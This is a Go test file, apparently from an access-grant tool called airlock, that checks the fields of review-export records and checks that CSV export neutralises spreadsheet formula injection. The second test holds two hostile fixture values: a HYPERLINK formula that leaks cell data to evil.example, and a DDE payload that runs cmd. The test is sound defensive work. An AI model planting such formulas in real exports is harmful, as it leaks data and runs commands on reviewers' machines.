package review

import (
	"testing"
	"time"

	"github.com/airlock-dev/airlock/internal/model"
	"github.com/airlock-dev/airlock/internal/scope"
)

func TestFromGrant(t *testing.T) {
	sc, _ := scope.Parse([]string{"s3:GetObject arn:aws:s3:::logs/app/*"})
	now := time.Date(2026, 11, 25, 14, 2, 0, 0, time.UTC)
	auto := model.Grant{ID: "g_a", Identity: "bot", IdentityKind: model.Agent, Owner: "sre", RequestedScope: sc, GrantedScope: sc,
		Status: model.Expired, RequestedAt: now, StartedAt: now, ExpiresAt: now.Add(10 * time.Minute), EndedAt: now.Add(10 * time.Minute),
		EndReason: "expired", EndedBy: "airlock",
		Decision: model.PolicyDecision{Outcome: "auto", PolicyIDs: []string{"triage"}, PolicySetHash: "sha256:1"}}
	human := auto
	human.ID = "g_h"
	human.Decision = model.PolicyDecision{Outcome: "human", PolicyIDs: []string{"needs-human"}, PolicySetHash: "sha256:1"}
	human.Approvals = []model.Approval{{Approver: "alice", Decision: "approved", Policies: []string{"leads"}, PolicySetHash: "sha256:2"}}
	denied := auto
	denied.ID, denied.StartedAt = "g_d", time.Time{}
	denied.Decision = model.PolicyDecision{Outcome: "deny", Explanation: "no policy permits"}

	tests := []struct {
		g          model.Grant
		by, kind   string
		policyHash string
	}{
		{auto, "policy triage", "policy", "sha256:1"},
		{human, "alice", "person", "sha256:2"},
		{denied, "", "", ""},
	}
	for _, tt := range tests {
		r := FromGrant(tt.g)
		if r.ApprovedBy != tt.by || r.ApprovalKind != tt.kind || r.PolicySetHash != tt.policyHash {
			t.Errorf("%s: approved_by=%q kind=%q hash=%q, want %q %q %q", tt.g.ID, r.ApprovedBy, r.ApprovalKind, r.PolicySetHash, tt.by, tt.kind, tt.policyHash)
		}
		if got := len(r.Record()); got != len(Header) {
			t.Errorf("%s: record has %d fields, header %d", tt.g.ID, got, len(Header))
		}
	}
	if rec := FromGrant(auto).Record(); rec[14] != "2026-11-25T14:12:00Z" || rec[15] != "expired" {
		t.Errorf("ended_at/end_reason = %q/%q", rec[14], rec[15])
	}
}

// TestRecordNeutralisesFormulas: an agent chooses its reason and end
// comment; a reviewer opens the CSV in a spreadsheet. A field that would
// be evaluated as a formula is written as text (leading apostrophe);
// everything else is unchanged.
func TestRecordNeutralisesFormulas(t *testing.T) {
	sc, _ := scope.Parse([]string{"s3:GetObject arn:aws:s3:::logs/app/*"})
	now := time.Date(2026, 11, 25, 14, 2, 0, 0, time.UTC)
	g := model.Grant{ID: "g_f", Identity: "bot", IdentityKind: model.Agent, Owner: "sre", RequestedScope: sc,
		Reason: `=HYPERLINK("https://evil.example/?"&A1,"details")`, Status: model.Ended, RequestedAt: now,
		EndReason: "ended", EndedBy: "bot", EndComment: "@SUM(1+1)*cmd|' /C calc'!A0"}
	rec := FromGrant(g).Record()
	idx := map[string]int{}
	for i, h := range Header {
		idx[h] = i
	}
	if got := rec[idx["reason"]]; got != `'=HYPERLINK("https://evil.example/?"&A1,"details")` {
		t.Errorf("reason field = %q, want it prefixed with an apostrophe", got)
	}
	if got := rec[idx["end_comment"]]; got != "'@SUM(1+1)*cmd|' /C calc'!A0" {
		t.Errorf("end_comment field = %q, want it prefixed with an apostrophe", got)
	}
	for _, s := range []string{"+1", "-1", "\tx", "\rx"} {
		if got := CSVField(s); got != "'"+s {
			t.Errorf("CSVField(%q) = %q", s, got)
		}
	}
	for _, s := range []string{"", "plain reason", "g_f", "2026-11-25T14:02:00Z", "s3:GetObject arn:aws:s3:::logs/app/*", "1+1="} {
		if got := CSVField(s); got != s {
			t.Errorf("CSVField(%q) = %q, want it unchanged", s, got)
		}
	}
}
